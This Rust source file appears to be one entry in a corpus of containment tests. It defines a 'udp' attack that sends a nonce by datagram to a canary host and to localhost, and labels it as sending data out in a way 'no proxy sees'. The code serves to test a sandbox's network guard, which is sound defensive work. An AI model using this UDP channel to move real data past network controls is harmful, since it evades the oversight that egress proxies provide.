//! Sends a datagram to the host.
//!
//! To a canary.

use std::net::{IpAddr, Ipv4Addr, UdpSocket};

use crate::corpus::look;
use crate::corpus::prelude::*;

pub(crate) const ATTACK: Attack =
    Attack::new("udp", Family::TalkingOut, Guard::NetworkNamespace, attempt)
        .gains("sends data out by datagrams, which no proxy sees");

fn attempt(stage: &Stage) -> Outcome {
    let hosts = [stage.address, Some(IpAddr::V4(Ipv4Addr::LOCALHOST))];
    Outcome::best(hosts.into_iter().flatten().map(|host| {
        let sent = UdpSocket::bind(("0.0.0.0", 0))
            .and_then(|socket| socket.send_to(stage.nonce.as_bytes(), (host, stage.udp)));
        look::outcome(&format!("send to {host}"), sent)
    }))
}
